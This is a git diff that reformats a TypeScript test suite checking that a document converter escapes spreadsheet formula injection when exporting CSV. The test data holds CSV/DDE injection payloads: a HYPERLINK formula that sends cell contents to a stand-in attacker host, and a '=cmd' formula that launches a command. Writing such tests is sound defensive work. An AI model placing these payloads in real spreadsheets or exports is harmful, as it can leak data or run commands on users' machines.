@@ -5,7 +5,14 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { configureConverter, DEFAULT_CONVERTER_SETTINGS, LibreOfficePool } from '../../../converter/index.ts';
 import { makeXlsx } from './fixtures.ts';
 
-const PAYLOADS = ['=HYPERLINK("http://attacker.test/?d="&A2,"Click")', "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|x', '+1+cmd|x', '-2+3+cmd|x', '\t=1+1'];
+const PAYLOADS = [
+  '=HYPERLINK("http://attacker.test/?d="&A2,"Click")',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|x',
+  '+1+cmd|x',
+  '-2+3+cmd|x',
+  '\t=1+1',
+];
 let pool: LibreOfficePool;
 const workbook = makeXlsx([{ name: 'Data', rows: [PAYLOADS, [-5, 3, -1234.5, 'total', '-', 'ok']] }]);
 
@@ -22,7 +29,7 @@ describe('csv formula injection', () => {
     const csv = Buffer.from(await pool.convert(workbook, { from: 'xlsx', to: 'csv' })).toString('utf8');
     expect(csv).toBe(
       '"\'=HYPERLINK(""http://attacker.test/?d=""&A2,""Click"")","\'=cmd|\' /C calc\'!A0","\'@SUM(1+1)*cmd|x","\'+1+cmd|x","\'-2+3+cmd|x","\'\t=1+1"\n' +
-      '-5,3,-1234.5,total,-,ok\n',
+        '-5,3,-1234.5,total,-,ok\n',
     );
   });
 
@@ -35,7 +42,12 @@ describe('csv formula injection', () => {
   it('in UTF-16 with a semicolon too', async () => {
     const out = await pool.convert(workbook, { from: 'xlsx', to: 'csv', csv: { encoding: 'utf-16', separator: ';' } });
     const csv = Buffer.from(out).toString('utf16le');
-    expect(csv.split('\n')[0]!.split(';').map((c) => c.slice(0, 3))).toEqual(['\ufeff"\'', '"\'=', '"\'@', '"\'+', '"\'-', '"\'\t']);
+    expect(
+      csv
+        .split('\n')[0]!
+        .split(';')
+        .map((c) => c.slice(0, 3)),
+    ).toEqual(['\ufeff"\'', '"\'=', '"\'@', '"\'+', '"\'-', '"\'\t']);
     expect(csv.split('\n')[1]).toBe('-5;3;-1234.5;total;-;ok');
   });
 
@@ -43,7 +55,9 @@ describe('csv formula injection', () => {
     configureConverter({ csvEscapeFormulas: false });
     try {
       const csv = Buffer.from(await pool.convert(workbook, { from: 'xlsx', to: 'csv' })).toString('utf8');
-      expect(csv.split('\n')[0]).toBe('"=HYPERLINK(""http://attacker.test/?d=""&A2,""Click"")",=cmd|\' /C calc\'!A0,@SUM(1+1)*cmd|x,+1+cmd|x,-2+3+cmd|x,\t=1+1');
+      expect(csv.split('\n')[0]).toBe(
+        '"=HYPERLINK(""http://attacker.test/?d=""&A2,""Click"")",=cmd|\' /C calc\'!A0,@SUM(1+1)*cmd|x,+1+cmd|x,-2+3+cmd|x,\t=1+1',
+      );
     } finally {
       configureConverter({ csvEscapeFormulas: DEFAULT_CONVERTER_SETTINGS.csvEscapeFormulas });
     }
